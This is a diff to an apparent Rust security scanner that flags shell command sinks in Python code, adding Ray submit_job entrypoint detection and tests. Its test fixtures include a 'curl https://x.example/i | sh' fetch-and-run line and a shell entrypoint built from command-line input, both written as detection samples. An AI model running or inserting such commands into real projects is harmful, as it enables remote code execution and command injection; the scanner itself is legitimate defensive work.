@@ -89,6 +89,14 @@ fn commands(call: &Call<'_>, module: &mut Module) {
         "BashSensor" => call.keyword("bash_command"),
         _ => None,
     };
+    if name == "submit_job"
+        && let Some(entry) = call.keyword("entrypoint")
+    {
+        // Ray hands it to a shell.
+        super::command::judge(entry.value.as_pieces().unwrap_or_default(), &call.span, module);
+        module.sink(SinkKind::Shell, &call.span, call.spelling, &entry.value);
+        return;
+    }
     if name == "run_commands" && call.package() == "modal" {
         for command in call.positional.iter().flat_map(|given| given.value.texts()) {
             super::command::judge(command, &call.span, module);
@@ -236,6 +244,8 @@ mod tests {
             (found(flow, "unpinned-image"), found(flow, "unpinned-package")),
             (vec![Medium], vec![Medium])
         );
+        let job = "from ray.job_submission import JobSubmissionClient as C\nimport sys\nC('https://r.example').submit_job(entrypoint=f'python t.py {sys.argv[1]}')";
+        assert_eq!(found(job, "shell-command-from-data"), [Medium]);
         let modal = "import modal\nmodal.Image.debian_slim().run_commands('curl https://x.example/i | sh')";
         assert_eq!(found(modal, "curl-pipe-shell"), [High]);
         let returned =
